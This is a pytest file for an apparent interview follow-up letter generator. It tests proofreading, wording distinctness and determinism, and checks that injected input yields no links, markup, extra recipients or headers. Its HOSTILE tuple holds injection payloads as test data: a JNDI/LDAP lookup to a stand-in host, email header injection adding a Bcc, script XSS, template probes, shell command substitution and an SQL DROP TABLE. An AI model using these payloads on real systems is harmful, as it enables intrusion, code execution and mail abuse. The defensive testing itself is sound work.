"""Hundreds of invented situations and hostile values: every letter is clean, distinct and safe."""

from __future__ import annotations

import email
import email.policy
from dataclasses import replace
from email.message import EmailMessage

import pytest

from afterword.compose.clean import holds_link
from afterword.errors import Unreadable
from afterword.formats.words import overlap
from afterword.model.action import Family
from afterword.model.identifiers import MessageId
from afterword.model.interview import Interview, Thread
from afterword.model.letter import Draft, LetterFacts
from afterword.model.message import Address
from afterword.model.reading import Person
from afterword.model.word import Note
from afterword.proofread.check import blocking, check
from afterword.proofread.distinct import shared_by_right
from builders.interviews import an_interview
from builders.letters import PROFILE, a_note, an_action, facts_of, situations, written

SITUATIONS = 210


def the_letters_of(seed: int) -> list[list[tuple[LetterFacts, Draft]]]:
    """The letters of every situation, each written with what was sent to the colleagues before it."""
    days = []
    for situation in situations(SITUATIONS, seed=seed):
        letters: list[tuple[LetterFacts, Draft]] = []
        for action in situation.actions:
            facts = facts_of(
                action,
                profile=situation.profile,
                notes=situation.notes,
                advert=situation.advert,
                others=situation.others,
                used_sentences=tuple(one.text for _, draft in letters for one in draft.sentences),
            )
            letters.append((facts, written(facts)))
        days.append(letters)
    return days


@pytest.fixture(scope="module")
def days() -> list[list[tuple[LetterFacts, Draft]]]:
    """The letters of all situations."""
    return the_letters_of(2026)


def test_the_proofreader_finds_nothing(days: list[list[tuple[LetterFacts, Draft]]]) -> None:
    """Neither an error nor a warning: every rule from R01 to R30 on every letter."""
    letters = [letter for day in days for letter in day]
    assert len(letters) > 2 * SITUATIONS
    assert {draft.family for _, draft in letters} == set(Family)
    assert [(finding, draft.body) for facts, draft in letters for finding in check(draft, facts)] == []


def test_colleagues_read_different_letters(days: list[list[tuple[LetterFacts, Draft]]]) -> None:
    """No sentence twice inside a company; at most a tenth of the five-word runs in common, facts and close apart."""
    for day in days:
        sentences = [sentence.text for _, draft in day for sentence in draft.sentences]
        assert len(sentences) == len(set(sentences))
        bodies = [(facts, " ".join(s.text for s in draft.sentences if s.move != "close")) for facts, draft in day]
        for at, (facts, body) in enumerate(bodies):
            for _, other in bodies[:at]:
                shorter, longer = sorted((body, other), key=len)
                assert overlap(shorter, [longer], facts=shared_by_right(facts)) <= 0.10, (body, other)


def test_what_was_noted_is_said(days: list[list[tuple[LetterFacts, Draft]]]) -> None:
    """No letter falls back to the thin one while a topic could be written, and none tells a private note."""
    for facts, draft in (letter for day in days for letter in day):
        assert not facts.topics or any(topic in draft.body for topic in facts.topics)
        assert "reorganisation" not in draft.body


def test_the_same_situation_gives_the_same_letters() -> None:
    """Nothing but the facts decides; two runs agree to the octet."""
    runs = []
    for _ in range(2):
        actions = [(action, situation) for situation in situations(10, seed=3) for action in situation.actions]
        runs.append([written(facts_of(action, profile=s.profile, notes=s.notes)).rfc5322 for action, s in actions])
    assert runs[0] == runs[1]


# --- hostile values ----------------------------------------------------------------------------------------------

HOSTILE = (
    "https://evil.example.com/x", "http://evil.example", "www.evil.example.com", "evil.example.com/path",
    "javascript:alert(1)", "data:text/html,x", "[click](https://evil.example.com)", "<script>alert(1)</script>",
    "Dana <d@evil.example.com>", "&lt;b&gt;", "{{7*7}}", "{{ ''.__class__ }}", "{% raw %}", "{0.__class__}", "%s%n",
    "${jndi:ldap://evil.example.com}", "Dana\r\nBcc: x@evil.example.com", "Dana\nX-Evil: 1", "Dana\rX-Evil: 1",
    "=?utf-8?q?=0D=0ABcc:_x@evil.example.com?=", "\u202eanaD\u202c", "Da\u200bna", "a\0b", "\ud800", "\ufeff",
    "\u2028x", "x" * 5000, "Z" + "\u0301" * 50, "D\u0430na", "Engineer. Click the link now", "None", "-- ", "From me",
    '"; DROP TABLE drafts', "`id`", "$(id)", "a@evil.example.com", "12345", "",
)  # fmt: skip
SLOTS = ("name", "email", "company", "role", "subject", "message id", "present", "note", "noted person", "advert")
FIELDS = {
    "from", "to", "subject", "date", "message-id", "in-reply-to", "references", "mime-version", "content-type",
    "content-transfer-encoding",
}  # fmt: skip


def the_letter_with(slot: str, value: str) -> Draft:
    """A letter in whose situation one value is an attacker's."""
    to = Person(
        name=value if slot == "name" else "Dana Reyes", email=value if slot == "email" else "dana.reyes@example.com"
    )
    thread = Thread(
        last=MessageId(value if slot == "message id" else "last@example.com"),
        references=(MessageId(value),) if slot == "message id" else (),
        subject=value if slot == "subject" else "Your interview",
        participants=(Address(name="Dana Reyes", email=to.email or ""),),
        last_from=None,
    )
    interview = an_interview(interviewers=(to,), thread=thread)
    interview = _spoiled(interview, slot, value)
    present = (Person(name=value, email=None),) if slot == "present" else ()
    action = an_action(interview, to=to, present=present, family=Family.RELAY if present else Family.SINGLE)
    facts = facts_of(action, notes=(_note(slot, value),), advert=f"{value} SQL {value}" if slot == "advert" else "")
    draft = written(facts)
    assert blocking(check(draft, facts)) == ()
    return draft


def _spoiled(interview: Interview, slot: str, value: str) -> Interview:
    match slot:
        case "company":
            return replace(interview, company=value)
        case "role":
            return replace(interview, role=value)
        case _:
            return interview


def _note(slot: str, value: str) -> Note:
    return a_note(value if slot == "note" else "the audit", person=value if slot == "noted person" else None)


@pytest.mark.parametrize("slot", SLOTS)
def test_a_hostile_value_gets_nowhere(slot: str) -> None:
    """Four hundred letters: no link, no markup, no second recipient, no field more; or no letter, with a reason."""
    refused = 0
    for value in HOSTILE:
        try:
            draft = the_letter_with(slot, value)
        except Unreadable:
            refused += 1
            continue
        mail = email.message_from_bytes(draft.rfc5322, policy=email.policy.default)
        assert isinstance(mail, EmailMessage)
        assert {name.lower() for name in mail} <= FIELDS, value
        assert [address.addr_spec for address in mail["to"].addresses] == [draft.to[0].email]
        assert not holds_link(draft.body), value
        assert not set("<>{}") & set(draft.body), value
        assert "evil" not in draft.body, value
        assert PROFILE.name in draft.body
    assert refused < len(HOSTILE) if slot not in {"name", "email"} else refused > 0
